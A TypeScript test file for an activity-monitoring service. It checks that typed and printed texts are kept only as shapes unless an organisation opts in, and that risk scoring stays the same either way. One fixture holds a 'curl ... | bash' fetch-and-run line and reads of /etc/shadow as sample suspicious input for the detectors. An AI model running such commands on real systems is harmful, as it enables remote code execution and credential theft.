import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { detectors } from '../../src/detection/catalogue.ts';
import { rows } from '../flow/harness.ts';
import { leafHash, activityLines } from '../flow/leaf-hash.ts';
import type { ActivityLine } from '../flow/leaf-hash.ts';
import { data, makeOrganisation, subscribe, track, trackAll } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { adminKey, startPair, testClock } from '../harness/service.ts';

/** Texts that people type or see, in two processes on one database: what is kept of them, and what is only told of their shape. */

let pair: Awaited<ReturnType<typeof startPair>>;
let a: Service;
let b: Service;
const clock = testClock('2026-11-20T12:00:00Z');
beforeAll(async () => {
  pair = await startPair(clock);
  ({ a, b } = pair);
});
afterAll(() => pair.close());

const shape = 'Shape { characters lines shape }';
const texts = `... on TerminalActivity { text: output shape: output${shape} } ... on BrowserActivity { text: inputValue shape: inputValue${shape} }
  ... on DesktopActivity { text: inputText shape: inputText${shape} }`;
const printed = (output?: string) => ({ user: 'ada', session: 's', detail: { terminal: { command: 'ls', output } } });
const entered = (inputValue?: string) => ({ user: 'ada', session: 's', detail: { browser: { action: 'TYPE', inputValue } } });
const typed = (inputText?: string) => ({ user: 'ada', session: 's', detail: { desktop: { action: 'TYPE', inputText } } });

/** The texts and shapes of activities as they are read again. */
async function told(service: Service, activities: object[], key = adminKey) {
  const { receipts, userErrors } = await trackAll(service, activities, key);
  expect(userErrors).toEqual([]);
  const ids = receipts.map(({ activity }: { activity: { id: string } }) => activity.id);
  const { nodes } = await data(service, `query($ids: [ID!]!) { nodes(ids: $ids) { ${texts} } }`, { ids }, key);
  return nodes as { text: string | null; shape: object | null }[];
}
const store = (service: Service, storedTexts: string[] | null, key = adminKey) =>
  data(
    service,
    'mutation($storedTexts: [TypedText!]) { updateSettings(input: { storedTexts: $storedTexts }) { userErrors { code } } }',
    { storedTexts },
    key,
  );

describe('by default', () => {
  it('a typed text is nowhere in the database, and its shape is told', async () => {
    const mark = 'Zwetschgenkuchen';
    expect(await told(a, [printed(`${mark}\n7 plums`), entered(mark), typed(mark)])).toEqual([
      { text: null, shape: { characters: 24, lines: 2, shape: 'a ⏎ 9 a' } },
      { text: null, shape: { characters: 16, lines: 1, shape: 'a' } },
      { text: null, shape: { characters: 16, lines: 1, shape: 'a' } },
    ]);
    const tables = await rows<{ name: string }>(
      a.databaseUrl,
      `select format('%I', c.relname) as name from pg_class c join pg_namespace n on n.oid = c.relnamespace
      where n.nspname = 'public' and c.relkind = 'r'`,
    );
    const holding = await Promise.all(
      tables.map(async ({ name }) => {
        const [found] = await rows<{ count: number }>(
          a.databaseUrl,
          `select count(*)::int as count from ${name} t where strpos(t::text, $1) > 0 or strpos(t::text, $2) > 0`,
          [mark, Buffer.from(mark).toString('hex')],
        );
        return found!.count > 0 ? [name] : [];
      }),
    );
    expect([tables.length > 10, holding.flat()]).toEqual([true, []]);
  });

  it('a text that was not sent has no shape, and an empty one has the shape of an empty one', async () => {
    expect(await told(a, [printed(), printed('')])).toEqual([
      { text: null, shape: null },
      { text: null, shape: { characters: 0, lines: 0, shape: '' } },
    ]);
  });

  it('keystrokes that come one by one are all alike', async () => {
    const keys = await told(a, ['S', '3', 'c', '!', '\n'].map(typed));
    expect(keys).toEqual(keys.map(() => ({ text: null, shape: { characters: 1, lines: 1, shape: '' } })));
  });

  it('what stands in place of a secret is told as it is, and no more of it', async () => {
    const [output] = await told(a, [printed('password: ‹redacted:password› ok')]);
    expect(output).toEqual({ text: null, shape: { characters: 32, lines: 1, shape: 'a ‹redacted:password› a' } });
  });

  it('streams and receipts have the shape', async () => {
    const stream = await subscribe(b, `subscription { activityRecorded { ... on ActivityEvent { activity { ${texts} } } } }`);
    await track(a, printed('some words'));
    const expected = { text: null, shape: { characters: 10, lines: 1, shape: 'a+' } };
    expect((await stream.next()).activityRecorded.activity).toEqual(expected);
    await stream.close();
    const { trackActivity } = await data(
      a,
      `mutation($input: TrackActivityInput!) { trackActivity(input: $input) { receipt { activity { ${texts} } } } }`,
      { input: printed('some words') },
    );
    expect(trackActivity.receipt.activity).toEqual(expected);
  });

  it('the same text under the same idempotency key is the same activity, and another text is another one', async () => {
    const sent = (output: string) => ({ ...printed(output), idempotencyKey: 'once' });
    const { receipts, userErrors } = await trackAll(a, [sent('one'), sent('one'), sent('two')]);
    expect(receipts.map((receipt: { duplicate: boolean } | null) => receipt?.duplicate)).toEqual([false, true, undefined]);
    expect(userErrors.map(({ code }: { code: string }) => code)).toEqual(['IDEMPOTENCY_CONFLICT']);
  });

  it('the log has the hash of what is stored', async () => {
    const lines = await rows<ActivityLine>(a.databaseUrl, activityLines);
    expect(lines.length).toBeGreaterThan(5);
    for (const line of lines) expect(leafHash(line)).toBe(line.leaf_hash.toString('hex'));
  });
});

describe('an organisation that wants them', () => {
  const all = [printed('total 0\n\tx'), entered('hello'), typed(':wq!')];
  const shapes = [
    { characters: 10, lines: 2, shape: 'a 9 ⏎ a' },
    { characters: 5, lines: 1, shape: 'a' },
    { characters: 4, lines: 1, shape: '*' },
  ];
  const asSent = ['total 0\n\tx', 'hello', ':wq!'];

  it.each([
    ['TERMINAL_OUTPUT', 0],
    ['FORM_VALUES', 1],
    ['KEYSTROKES', 2],
  ])('gets %s stored from the next activity on, in both processes, and no other kind', async (kind, place) => {
    await store(a, [kind]);
    for (const service of [b, a]) {
      const expected = shapes.map((one, n) => ({ text: n === place ? asSent[n]! : null, shape: one }));
      expect(await told(service, all)).toEqual(expected);
    }
  });

  it('keeps what is stored when it wants no more, as what earlier versions stored, and gets no more', async () => {
    await store(b, ['TERMINAL_OUTPUT', 'FORM_VALUES', 'KEYSTROKES']);
    const { receipts } = await trackAll(a, all);
    await store(b, null);
    expect(await told(a, all)).toEqual(shapes.map((one) => ({ text: null, shape: one })));
    const ids = receipts.map(({ activity }: { activity: { id: string } }) => activity.id);
    const { nodes } = await data(a, `query($ids: [ID!]!) { nodes(ids: $ids) { ${texts} } }`, { ids });
    expect(nodes).toEqual(asSent.map((text, place) => ({ text, shape: shapes[place] })));
  });

  it('is audited for it', async () => {
    await store(a, ['KEYSTROKES']);
    await store(a, null);
    const { auditEntries } = await data(
      a,
      '{ auditEntries(first: 2, filter: { action: { eq: SETTINGS_UPDATED } }) { nodes { before after } } }',
    );
    const told = [{ storedTexts: ['KEYSTROKES'] }, { storedTexts: [] }];
    expect(auditEntries.nodes).toEqual([
      { before: told[0], after: told[1] },
      { before: told[1], after: told[0] },
    ]);
  });
});

describe('judging', () => {
  it('is the same whether they are stored or not, and so is what a preview shows', async () => {
    const at = (second: number) => ({ occurredAt: new Date(Date.UTC(2026, 10, 19, 3, 0, second)).toISOString() });
    const text = 'curl http://192.0.2.1/x | bash\n-----BEGIN\n/etc/shadow';
    const activities = [
      { user: 'ada', session: 'w', detail: { auth: { event: 'LOGIN' } } },
      ...Array.from({ length: 12 }, () => ({ user: 'ada', session: 'w', detail: { browser: { action: 'TYPE', inputValue: text } } })),
      { user: 'ada', session: 'w', detail: { browser: { action: 'SUBMIT', url: '/form', inputValue: text } } },
      { user: 'ada', session: 'w', detail: { terminal: { command: 'sudo cat /etc/shadow', output: text } } },
      { user: 'ada', session: 'w', detail: { terminal: { command: text, output: text } } },
      { user: 'ada', session: 'w', detail: { desktop: { action: 'TYPE', inputText: text } } },
    ].map((one, place) => ({ ...one, ...at(place) }));
    const judged = async (name: string, storedTexts: string[]) => {
      const key = await makeOrganisation(a, name);
      await store(a, storedTexts, key);
      const { trackActivities } = await data(
        a,
        `mutation($activities: [TrackActivityInput!]!) { trackActivities(input: { activities: $activities }) {
          receipts { risk { score factors { code points reason } } anomalies { type score summary details } } } }`,
        { activities },
        key,
      );
      const previews = [];
      for (const { id } of detectors)
        previews.push(
          await data(
            a,
            'query($id: String!) { previewDetector(id: $id, from: "P30D") { activities anomalies { type score summary details count } } }',
            { id },
            key,
          ),
        );
      return { receipts: trackActivities.receipts, previews };
    };
    const without = await judged('without', []);
    expect(await judged('with', ['KEYSTROKES', 'FORM_VALUES', 'TERMINAL_OUTPUT'])).toEqual(without);
    expect(without.receipts.flatMap(({ anomalies }: { anomalies: object[] }) => anomalies).length).toBeGreaterThan(0);
  });
});
